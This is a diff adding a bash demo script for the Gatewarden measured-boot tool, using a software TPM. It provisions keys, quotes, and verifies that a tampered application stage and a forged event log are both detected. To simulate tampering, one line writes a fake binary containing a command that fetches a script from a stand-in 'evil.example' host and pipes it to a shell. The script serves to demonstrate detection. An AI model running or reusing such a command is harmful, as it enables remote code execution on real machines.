@@ -1,0 +1,155 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: Apache-2.0
+# `make demo`: measured boot on a software TPM, end to end, narrated.
+set -euo pipefail
+
+B=${1:-build}
+ROOT=$(cd "$(dirname "$0")/.." && pwd)
+cd "$ROOT"
+case $B in /*) ;; *) B=$ROOT/$B ;; esac
+FWLOG=${GW_DEMO_FWLOG:-$ROOT/../shared/testdata/eventlogs/tpm2-tools-event-arch-linux.bin}
+
+bold=$(tput bold 2>/dev/null || true)
+norm=$(tput sgr0 2>/dev/null || true)
+step=0
+say() { step=$((step + 1)); printf '\n%s%d. %s%s\n' "$bold" "$step" "$*" "$norm"; }
+run() { printf '   $ %s\n' "$*"; "$@" 2>&1 | sed 's/^/     /'; return "${PIPESTATUS[0]}"; }
+
+work=$(mktemp -d /tmp/gatewarden-demo.XXXXXX)
+swtpm_pid=
+cleanup() {
+  if [ -n "$swtpm_pid" ] && kill -0 "$swtpm_pid" 2>/dev/null; then
+    swtpm_ioctl --tcp "127.0.0.1:$ctrl" -s >/dev/null 2>&1 || kill "$swtpm_pid" 2>/dev/null || true
+  fi
+  rm -rf "$work"
+}
+trap cleanup EXIT
+
+free_port_pair() {
+  python3 - <<'PY'
+import random, socket
+for _ in range(200):
+    p = random.randint(20000, 32000)
+    try:
+        socks = []
+        for q in (p, p + 1):
+            s = socket.socket(); s.bind(('127.0.0.1', q)); socks.append(s)
+        for s in socks: s.close()
+        print(p); break
+    except OSError:
+        for s in socks: s.close()
+PY
+}
+
+power_on() {
+  # A real platform: firmware measures itself into PCRs 0-7, then boots us.
+  swtpm_ioctl --tcp "127.0.0.1:$ctrl" -i >/dev/null
+  "$B/tools/gw-fwsim" startup "$FWLOG" | sed 's/^/     /'
+  "$B/tools/gw-fwsim" replay "$FWLOG" | sed 's/^/     /'
+}
+
+printf '%sGatewarden demo: measured boot on a TPM, and an offline check of what it says%s\n' "$bold" "$norm"
+printf 'Everything runs on this machine: a software TPM (swtpm) on 127.0.0.1 and the\n'
+printf 'Gatewarden binaries from %s. Scratch files are in %s.\n' "$B" "$work"
+
+say "Manufacture a software TPM with an endorsement key certificate, and switch it on."
+mkdir -p "$work/tpm"
+swtpm_setup --tpm2 --tpmstate "$work/tpm" --create-ek-cert --create-platform-cert \
+  --lock-nvram --pcr-banks sha1,sha256 --overwrite >"$work/swtpm_setup.log" 2>&1
+port=$(free_port_pair)
+ctrl=$((port + 1))
+swtpm socket --tpm2 --tpmstate dir="$work/tpm" --server type=tcp,port="$port" \
+  --ctrl type=tcp,port="$ctrl" --flags not-need-init \
+  --pid file="$work/swtpm.pid" --log file="$work/swtpm.log" --daemon
+for _ in $(seq 50); do [ -s "$work/swtpm.pid" ] && break; sleep 0.1; done
+swtpm_pid=$(cat "$work/swtpm.pid")
+export GW_TCTI="swtpm:host=127.0.0.1,port=$port" TPM2TOOLS_TCTI="swtpm:host=127.0.0.1,port=$port"
+printf '   swtpm listens on 127.0.0.1:%s (banks sha1, sha256).\n' "$port"
+printf '   The platform firmware is simulated: the events of a real firmware log\n'
+printf '   (%s) are replayed into PCRs 0-7.\n' "$(basename "$FWLOG")"
+power_on
+
+say "Lay out the gateway's boot stages and the agent's configuration."
+mkdir -p "$work/gateway"
+head -c 1048576 /dev/urandom >"$work/gateway/rootfs.img"
+printf '#!/bin/sh\necho gateway application v1.4\n' >"$work/gateway/gateway-app"
+printf 'uplink=mqtts://broker.example\n' >"$work/gateway/app.conf"
+cat >"$work/agent.conf" <<CONF
+[agent]
+state_dir = $work/state
+firmware_log = $FWLOG
+
+[stage rootfs]
+file = $work/gateway/rootfs.img
+
+[stage application]
+file = $work/gateway/gateway-app
+
+[stage config]
+file = $work/gateway/app.conf
+CONF
+sed 's/^/     /' "$work/agent.conf"
+A=("$B/gwagent" --config "$work/agent.conf")
+
+say "Provision the TPM: endorsement key (with its certificate), storage key, attestation key."
+run "${A[@]}" provision
+
+say "Run it again: provisioning is idempotent, nothing changes."
+run "${A[@]}" provision
+
+say "Boot: the boot service measures each stage into PCR 13 and the event log."
+run "${A[@]}" boot
+
+say "The verifier sends a fresh nonce; the gateway answers with a quote signed by its AK."
+nonce=$(openssl rand -hex 32)
+run "${A[@]}" quote --nonce "$nonce" --out "$work/quote1"
+cp "$work/quote1/eventlog.cel" "$work/golden.cel"
+printf '   The event log of this known-good boot is kept as the reference.\n'
+
+say "Check the quote offline with only the AK public key: signature, nonce, PCRs, both logs."
+run "$B/gwverifier" check-quote --evidence "$work/quote1/evidence.json" --ak "$work/state/ak.pem" \
+  --nonce "$nonce" --reference "$work/golden.cel"
+
+say "tpm2-tools agrees: tpm2_checkquote accepts the same quote."
+run tpm2_checkquote -u "$work/quote1/ak.pem" -m "$work/quote1/quote.msg" -s "$work/quote1/quote.sig" \
+  -f "$work/quote1/quote.pcrs" -g sha256 -q "$nonce"
+
+say "An attacker replaces the application binary on disk, and the gateway reboots."
+printf '#!/bin/sh\necho gateway application v1.4; curl -s http://evil.example | sh\n' >"$work/gateway/gateway-app"
+power_on
+run "${A[@]}" boot
+
+say "A new quote, a new nonce: the quote is genuine, but the application stage changed."
+nonce=$(openssl rand -hex 32)
+run "${A[@]}" quote --nonce "$nonce" --out "$work/quote2"
+set +e
+run "$B/gwverifier" check-quote --evidence "$work/quote2/evidence.json" --ak "$work/state/ak.pem" \
+  --nonce "$nonce" --reference "$work/golden.cel"
+rc=$?
+set -e
+if [ "$rc" -ne 18 ]; then
+  printf '\nUnexpected: check-quote exited %d, expected 18 (reference mismatch).\n' "$rc" >&2
+  exit 1
+fi
+printf '   Exit status %d: a measurement differs from the reference, and the message\n' "$rc"
+printf '   names the stage and file. Nobody could hide it: the log replays to the\n'
+printf '   PCRs the TPM signed, so the log cannot be edited to say otherwise.\n'
+
+say "Someone edits the log to show the old digest: the replay no longer matches."
+python3 - "$work/quote2/eventlog.cel" "$work/golden.cel" "$work/forged.cel" <<'PY'
+import sys
+cur = open(sys.argv[1], 'rb').read().split(b'\x1e')
+gold = open(sys.argv[2], 'rb').read().split(b'\x1e')
+cur[2] = gold[2]          # record 1 (application) copied from the good boot
+open(sys.argv[3], 'wb').write(b'\x1e'.join(cur))
+PY
+set +e
+run "$B/gwverifier" check-quote --ak "$work/state/ak.pem" --nonce "$nonce" \
+  --message "$work/quote2/quote.msg" --signature "$work/quote2/quote.sig" \
+  --pcrs "$work/quote2/quote.pcrs" --eventlog "$work/quote2/firmware.bin" --cel "$work/forged.cel"
+rc=$?
+set -e
+[ "$rc" -eq 17 ] || { printf 'Unexpected exit %d, expected 17.\n' "$rc" >&2; exit 1; }
+
+printf '\n%sDemo complete.%s The good boot passed; the tampered stage and the forged log\n' "$bold" "$norm"
+printf 'were both caught, each with the stage or PCR named.\n'
